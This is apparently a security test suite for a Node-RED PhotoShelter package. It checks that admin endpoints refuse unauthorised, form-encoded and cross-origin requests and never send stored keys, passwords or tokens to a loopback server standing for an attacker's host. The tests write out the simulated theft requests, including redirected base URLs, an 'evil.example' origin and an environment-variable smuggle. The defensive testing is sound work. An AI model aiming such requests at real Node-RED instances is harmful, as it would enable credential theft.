/**
 * The admin endpoints of this package in a real Node-RED 4.1 (child processes, as a user runs it).
 * With adminAuth: every endpoint refuses a user without the node type's write permission (and anyone
 * without a token). Without adminAuth (Node-RED's default, and npm start's): a form-encoded post, a
 * cross-origin post and a foreign node's id are refused, and a capture server on loopback, standing for
 * the attacker's host, receives no stored secret whatever the requests try.
 */
import assert from 'node:assert/strict';
import { createServer as createTcpServer, type Server as TcpServer, type Socket } from 'node:net';
import type { AddressInfo } from 'node:net';
import bcrypt from 'bcryptjs';
import { startRuntime, type Runtime } from '../flows/runtime';
import { assertNoSecret, startCapture, type Capture } from './helpers';

const SECRETS = { apiKey: 'RUNTIMEKEY1', password: 'runtime-account-password', token: 'runtime-bearer-token', mqtt: 'mqtt-broker-password', sftp: 'runtime-sftp-password' };

/** Every admin endpoint of the package: method, path, and a body the editor would send. */
function routes(): Array<{ method: 'GET' | 'POST'; path: string; body?: unknown }> {
  return [
    { method: 'POST', path: '/photoshelter/account/test', body: { id: 'acc', config: { baseUrl: 'https://example.invalid/psapi/v4.0' }, credentials: { apiKey: 'TYPEDKEY001', email: 'a@b.c', password: 'typed' } } },
    { method: 'GET', path: '/photoshelter/account/acc/tree' },
    { method: 'GET', path: '/photoshelter/account/acc/fields' },
    { method: 'GET', path: '/photoshelter/account/acc/names?ids=G0000abcdefghijk' },
    { method: 'POST', path: '/photoshelter/account/tree', body: { id: 'acc', config: { baseUrl: 'https://example.invalid/psapi/v4.0' }, credentials: { apiKey: 'TYPEDKEY001', email: 'a@b.c', password: 'typed' } } },
    { method: 'POST', path: '/photoshelter/account/fields', body: { id: 'acc', config: { baseUrl: 'https://example.invalid/psapi/v4.0' }, credentials: { apiKey: 'TYPEDKEY001', email: 'a@b.c', password: 'typed' } } },
    { method: 'POST', path: '/photoshelter/account/names', body: { id: 'acc', config: { baseUrl: 'https://example.invalid/psapi/v4.0' }, credentials: { apiKey: 'TYPEDKEY001', email: 'a@b.c', password: 'typed' }, ids: 'G0000abcdefghijk' } },
    { method: 'POST', path: '/photoshelter/trigger/trg/poll', body: {} },
    { method: 'POST', path: '/photoshelter/destination/test', body: { config: { kind: 'folder', folder: '/nonexistent/ps-security' } } },
    { method: 'POST', path: '/photoshelter/ledger/test', body: { config: { host: '127.0.0.1', port: 1, database: 'ps', user: 'ps' }, credentials: { password: 'typed' } } },
    { method: 'POST', path: '/photoshelter/deliver/preview', body: { destination: { kind: 'folder', folder: '/nonexistent/ps-security' }, template: '{{asset.fileName}}' } },
    { method: 'POST', path: '/photoshelter/destination/preview', body: { destination: { kind: 'folder', folder: '/nonexistent/ps-security' } } },
  ];
}

function flow(stored: Capture): unknown[] {
  return [
    { id: 'tab', type: 'tab', label: 'security' },
    { id: 'acc', type: 'photoshelter-account', baseUrl: `${stored.url}/psapi/v4.0`, authMode: 'session', timeZone: 'UTC', credentials: { apiKey: SECRETS.apiKey, email: 'owner@example.com', password: SECRETS.password } },
    { id: 'dhttp', type: 'photoshelter-destination', kind: 'http', method: 'PUT', url: `${stored.url}/upload/{{asset.id}}`, auth: 'bearer', headers: [], credentials: { token: SECRETS.token } },
    { id: 'dsftp', type: 'photoshelter-destination', kind: 'sftp', host: '127.0.0.1', port: stored.port, user: 'agency', hostKey: `SHA256:${'A'.repeat(43)}`, credentials: { password: SECRETS.sftp } },
    { id: 'trg', type: 'photoshelter-trigger', z: 'tab', account: 'acc', mode: 'changed', scope: '', interval: 86400, start: 'now', maxEvents: 10, wires: [[]] },
    // a config node of another package (Node-RED's own MQTT broker), holding a password
    { id: 'broker', type: 'mqtt-broker', name: 'broker', broker: '127.0.0.1', port: '1', clientid: '', autoConnect: false, usetls: false, protocolVersion: '4', keepalive: '60', cleansession: true, credentials: { user: 'agency', password: SECRETS.mqtt } },
  ];
}

describe('security: the admin endpoints in a real Node-RED', function () {
  this.timeout(120_000);
  let stored: Capture;
  let evil: Capture;

  before(async () => {
    stored = await startCapture();
    evil = await startCapture();
  });
  after(async () => {
    await stored.close();
    await evil.close();
  });

  describe('with adminAuth: a user without write permission is refused by every endpoint', () => {
    let red: Runtime;
    let adminToken = '';
    let readerToken = '';
    const token = async (username: string, password: string, scope: string) => {
      const res = await fetch(`${red.url}/auth/token`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ client_id: 'node-red-admin', grant_type: 'password', scope, username, password }),
      });
      assert.equal(res.status, 200, await res.clone().text());
      return ((await res.json()) as { access_token: string }).access_token;
    };

    before(async () => {
      red = await startRuntime({
        settings: {
          adminAuth: {
            type: 'credentials',
            users: [
              { username: 'admin', password: bcrypt.hashSync('admin-password', 8), permissions: '*' },
              { username: 'reader', password: bcrypt.hashSync('reader-password', 8), permissions: 'read' },
            ],
          },
        },
      });
      adminToken = await token('admin', 'admin-password', '*');
      readerToken = await token('reader', 'reader-password', 'read');
      const res = await fetch(`${red.url}/flows`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${adminToken}`, 'Node-RED-Deployment-Type': 'full' },
        body: JSON.stringify(flow(stored)),
      });
      assert.ok(res.status === 204 || res.status === 200, await res.text());
    });
    after(async () => {
      await red?.stop();
    });

    const call = (r: ReturnType<typeof routes>[number], auth?: string) =>
      fetch(`${red.url}${r.path}`, {
        method: r.method,
        headers: { ...(r.body ? { 'content-type': 'application/json' } : {}), ...(auth ? { authorization: `Bearer ${auth}` } : {}) },
        body: r.body ? JSON.stringify(r.body) : undefined,
      });

    for (const r of routes()) {
      it(`${r.method} ${r.path}: refused without a token (401) and for a read-only user (401), taken for an admin`, async () => {
        assert.equal((await call(r)).status, 401);
        assert.equal((await call(r, readerToken)).status, 401);
        const admin = await call(r, adminToken);
        assert.ok(admin.status !== 401 && admin.status !== 403, `${admin.status} ${await admin.text()}`);
      });
    }
  });

  describe('without adminAuth (the default): no stored secret reaches another host', () => {
    let red: Runtime;
    let tcp: TcpServer;
    let tcpPort = 0;
    let tcpBytes = 0;

    before(async () => {
      const sockets = new Set<Socket>();
      tcp = createTcpServer((s) => {
        sockets.add(s);
        s.on('data', (d) => (tcpBytes += d.length));
        s.on('error', () => undefined);
        s.on('close', () => sockets.delete(s));
      });
      await new Promise<void>((ok) => tcp.listen(0, '127.0.0.1', ok));
      tcpPort = (tcp.address() as AddressInfo).port;
      tcp.on('close', () => sockets.forEach((s) => s.destroy()));
      red = await startRuntime({ env: { PS_RUNTIME_SECRET: 'runtime-environment-secret' } });
      await red.deploy(flow(stored));
      evil.requests.length = 0;
    });
    after(async () => {
      await red?.stop();
      await new Promise<void>((ok) => tcp.close(() => ok()));
    });

    const post = (path: string, body: string, headers: Record<string, string>) => fetch(`${red.url}${path}`, { method: 'POST', headers, body });
    const toEvil = { id: 'acc', config: { baseUrl: '', authMode: 'session' }, credentials: { apiKey: '__PWRD__', email: 'owner@example.com', password: '__PWRD__' } };

    it('a form-encoded post that would send the stored key elsewhere is refused (415)', async () => {
      const form = new URLSearchParams({ id: 'acc', 'config[baseUrl]': `${evil.url}/psapi/v4.0`, 'credentials[apiKey]': '__PWRD__', 'credentials[email]': 'owner@example.com', 'credentials[password]': '__PWRD__' });
      const res = await post('/photoshelter/account/test', form.toString(), { 'content-type': 'application/x-www-form-urlencoded' });
      assert.equal(res.status, 415);
      assert.match(((await res.json()) as { error: string }).error, /must carry JSON/);
    });
    it('a text/plain post (what a page may send without asking) is refused (415)', async () => {
      const res = await post('/photoshelter/destination/test', JSON.stringify({ id: 'dhttp', config: { kind: 'http', url: `${evil.url}/x`, auth: 'bearer' }, credentials: { token: '__PWRD__' } }), { 'content-type': 'text/plain' });
      assert.equal(res.status, 415);
    });
    it('a JSON post from a page of another origin is refused (403), although Node-RED itself answers its preflight', async () => {
      const preflight = await fetch(`${red.url}/photoshelter/account/test`, { method: 'OPTIONS', headers: { origin: 'http://evil.example', 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' } });
      console.log(`      (Node-RED's answer to a cross-origin preflight: ${preflight.status}, Access-Control-Allow-Origin: ${preflight.headers.get('access-control-allow-origin') ?? 'none'})`);
      const res = await post('/photoshelter/account/test', JSON.stringify({ ...toEvil, config: { ...toEvil.config, baseUrl: `${evil.url}/psapi/v4.0` } }), { 'content-type': 'application/json', origin: 'http://evil.example' });
      assert.equal(res.status, 403);
      assert.match(((await res.json()) as { error: string }).error, /page of another web site/);
    });
    it('the id of another package\'s node (an MQTT broker with a password) is refused (403)', async () => {
      const body = { id: 'broker', config: { kind: 'sftp', host: '127.0.0.1', port: tcpPort, user: 'agency', insecureSkipHostKey: true }, credentials: { password: '__PWRD__' } };
      const res = await post('/photoshelter/destination/test', JSON.stringify(body), { 'content-type': 'application/json' });
      assert.equal(res.status, 403);
      assert.match(((await res.json()) as { error: string }).error, /broker is not a deployed photoshelter-destination node/);
      assert.equal(tcpBytes, 0);
    });
    it('the stored key and password are not sent to another host: type them again', async () => {
      const res = await post('/photoshelter/account/test', JSON.stringify({ ...toEvil, config: { ...toEvil.config, baseUrl: `${evil.url}/psapi/v4.0` } }), { 'content-type': 'application/json' });
      assert.equal(res.status, 400);
      assert.match(((await res.json()) as { error: string }).error, /type .* again/);
    });
    it('the pickers from unsaved settings do not send the stored key and password to another host either', async () => {
      for (const what of ['tree', 'fields', 'names']) {
        const res = await post(`/photoshelter/account/${what}`, JSON.stringify({ ...toEvil, config: { ...toEvil.config, baseUrl: `${evil.url}/psapi/v4.0` }, ids: 'G0000abcdefghijk' }), { 'content-type': 'application/json' });
        assert.equal(res.status, 400, what);
        assert.match(((await res.json()) as { error: string }).error, /type .* again/, what);
        const cross = await post(`/photoshelter/account/${what}`, JSON.stringify({ ...toEvil, config: { ...toEvil.config, baseUrl: `${stored.url}/psapi/v4.0` } }), { 'content-type': 'application/json', origin: 'http://evil.example' });
        assert.equal(cross.status, 403, what);
      }
    });
    it('the stored bearer token is not sent to another URL', async () => {
      const res = await post('/photoshelter/destination/test', JSON.stringify({ id: 'dhttp', config: { kind: 'http', method: 'PUT', url: `${evil.url}/upload/{{asset.id}}`, auth: 'bearer' }, credentials: { token: '__PWRD__' } }), { 'content-type': 'application/json' });
      assert.equal(res.status, 400);
    });
    it('the stored SFTP password is not sent to another port', async () => {
      const body = { id: 'dsftp', config: { kind: 'sftp', host: '127.0.0.1', port: tcpPort, user: 'agency', hostKey: `SHA256:${'A'.repeat(43)}` }, credentials: { password: '__PWRD__' } };
      const res = await post('/photoshelter/destination/test', JSON.stringify(body), { 'content-type': 'application/json' });
      assert.equal(res.status, 400);
      assert.equal(tcpBytes, 0);
    });
    it('an environment value is not read for a node that is not deployed', async () => {
      const body = { config: { kind: 'http', method: 'PUT', url: `${evil.url}/x`, auth: 'bearer' }, credentials: { token: '${PS_RUNTIME_SECRET}' } };
      const res = await post('/photoshelter/destination/test', JSON.stringify(body), { 'content-type': 'application/json' });
      assert.equal(res.status, 400);
      assertNoSecret(await res.text(), ['runtime-environment-secret'], 'the answer');
    });
    it('the location previews take no request from another origin, and read no environment value for a node that is not deployed', async () => {
      for (const path of ['/photoshelter/deliver/preview', '/photoshelter/destination/preview']) {
        const cross = await post(path, JSON.stringify({ destination: { kind: 'folder', folder: '/tmp/x' } }), { 'content-type': 'application/json', origin: 'http://evil.example' });
        assert.equal(cross.status, 403, path);
        const form = await post(path, 'destination[kind]=folder', { 'content-type': 'application/x-www-form-urlencoded' });
        assert.equal(form.status, 415, path);
        const env = await post(path, JSON.stringify({ destination: { kind: 'folder', folder: '${PS_RUNTIME_SECRET}' }, template: '${PS_RUNTIME_SECRET}' }), { 'content-type': 'application/json' });
        const answer = await env.text();
        assert.equal(env.status, 200, path);
        assert.equal((JSON.parse(answer) as { ok: boolean }).ok, false, answer);
        assert.match(answer, /environment/, answer);
        assertNoSecret(answer, ['runtime-environment-secret'], 'the answer');
      }
    });
    it('the attacker\'s capture server and port received nothing at all; the editor\'s own request still works', async () => {
      assert.deepEqual(evil.requests, []);
      assert.equal(tcpBytes, 0);
      assertNoSecret(evil.text(), Object.values(SECRETS), 'the capture server');
      stored.requests.length = 0;
      const res = await post('/photoshelter/destination/test', JSON.stringify({ id: 'dhttp', config: { kind: 'http', method: 'PUT', url: `${stored.url}/upload/{{asset.id}}`, auth: 'bearer' }, credentials: { token: '__PWRD__' } }), { 'content-type': 'application/json', origin: red.url });
      assert.equal(res.status, 200, await res.clone().text());
      assert.equal(stored.requests.at(-1)?.headers.authorization, `Bearer ${SECRETS.token}`, 'the stored token went to its own host');
    });
  });
});
